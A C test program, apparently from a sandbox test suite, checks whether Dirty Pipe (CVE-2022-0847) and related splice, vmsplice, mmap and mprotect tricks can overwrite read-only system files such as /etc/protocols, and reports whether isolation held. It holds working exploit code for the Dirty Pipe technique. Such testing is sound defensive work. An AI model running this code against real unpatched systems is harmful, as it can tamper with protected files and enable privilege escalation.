// attack: writing into the page cache of a file that is read-only
// tries: Dirty Pipe: fills and drains a pipe so that its buffers may be merged with, splices a byte of the file into it and writes on, at several offsets, with
//   splice, tee and sendfile; then vmsplice with gifts, a writable shared mapping, mprotect, remap_file_pages, MAP_SHARED through /proc/self/map_files.
// source: CVE-2022-0847 (Dirty Pipe); CVE-2020-29374 (vmsplice)
// expect: the file says what it said; no mapping of it is writable
// stopped-by: mount_namespace, user_namespace
// control: own
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

static char before[65536], after[65536];

/// A pipe all of whose buffers carry the flag that CVE-2022-0847 left in them.
static int prepared(int ends[2]) {
    if (pipe(ends)) return -1;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    char buffer[4096] = "";
    for (int left = size; left > 0; left -= 4096) if (write(ends[1], buffer, 4096) != 4096) return -1;
    for (int left = size; left > 0; left -= 4096) if (read(ends[0], buffer, 4096) != 4096) return -1;
    return 0;
}

static int changed(const char *path, long size, const char *how) {
    int fd = open(path, O_RDONLY);
    long got = pread(fd, after, sizeof after, 0);
    close(fd);
    if (got == size && !memcmp(before, after, size)) return 0;
    return printf("broke: %s changed %s\n", how, path), 99;
}

int main(void) {
    // Names of protocols: nothing breaks if a byte of it should change. In the control run a file of its own, which may be written.
    const char *path = getenv("ATTACK_CONTROL") ? "/tmp/weak" : "/usr/share/perl5/Debconf/Db.pm";
    const char *others[] = {"/usr/share/doc/libc6/copyright", "/usr/share/common-licenses/GPL-3", "/etc/protocols", "/usr/lib/os-release"};
    for (int i = 0; i < 4 && access(path, R_OK) && !getenv("ATTACK_CONTROL"); i++) path = others[i];
    if (getenv("ATTACK_CONTROL")) {
        int own = open(path, O_CREAT | O_RDWR, 0600);
        if (write(own, "a file of its own", 17) != 17) return 1;
        close(own);
    }
    int fd = open(path, O_RDONLY), r;
    long size = fd < 0 ? -1 : pread(fd, before, sizeof before, 0);
    if (size < 16) return printf("unclear: no file to try on\n"), 1;
    for (int way = 0; way < 3; way++) {
        for (long offset = 0; offset < 12; offset++) {
            int ends[2], others[2];
            if (prepared(ends) || prepared(others)) return printf("unclear: no pipe\n"), 1;
            off64_t from = offset;
            long moved = way == 2 ? sendfile(ends[1], fd, &from, 1) : splice(fd, &from, way ? others[1] : ends[1], 0, 1, 0);
            if (way == 1) moved = tee(others[0], ends[1], 1, 0);
            if (moved < 0) return printf("unclear: splice: errno %d\n", errno), 1;
            if (write(ends[1], "XX", 2) != 2) return printf("unclear: no write\n"), 1;
            if ((r = changed(path, size, "Dirty Pipe"))) return r;
            // A page of the file's mapping as a gift, then a write after it.
            char *page = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
            struct iovec gift = {page, 4096};
            if (vmsplice(ends[1], &gift, 1, SPLICE_F_GIFT) > 0 && write(ends[1], "YY", 2) == 2 && (r = changed(path, size, "vmsplice"))) return r;
            if (mprotect(page, 4096, PROT_READ | PROT_WRITE) == 0) return page[0] ^= 1, printf("broke: mprotect makes a shared mapping writable\n"), 99;
            char name[128];
            snprintf(name, sizeof name, "/proc/self/map_files/%lx-%lx", (long)page, (long)page + 4096);
            int again = open(name, O_RDWR);
            if (again >= 0) return printf("broke: map_files opens for writing\n"), 99;
            munmap(page, 4096);
            for (int i = 0; i < 2; i++) close(ends[i]), close(others[i]);
        }
    }
    int flags[] = {MAP_SHARED, MAP_SHARED_VALIDATE, MAP_SHARED | MAP_POPULATE};
    for (int i = 0; i < 3; i++)
        if (mmap(0, 4096, PROT_READ | PROT_WRITE, flags[i], fd, 0) != MAP_FAILED) return printf("broke: a writable mapping\n"), 99;
    char *own = getenv("ATTACK_CONTROL") ? 0 : (char *)1;
    if (!own) {
        int writable = open(path, O_RDWR);
        if (pwrite(writable, "X", 1, 0) == 1 && (r = changed(path, size, "a write"))) return r;
    }
    int copy = open("/tmp", O_TMPFILE | O_RDWR, 0600);
    off64_t zero = 0;
    if (copy_file_range(copy, 0, fd, &zero, 1, 0) >= 0 || fallocate(fd, FALLOC_FL_KEEP_SIZE | FALLOC_FL_PUNCH_HOLE, 0, 1) == 0 || ftruncate(fd, 0) == 0)
        return printf("broke: a descriptor for reading writes\n"), 99;
    if ((r = changed(path, size, "something"))) return r;
    printf("held: 36 prepared pipes, 3 mappings\n");
    return 0;
}
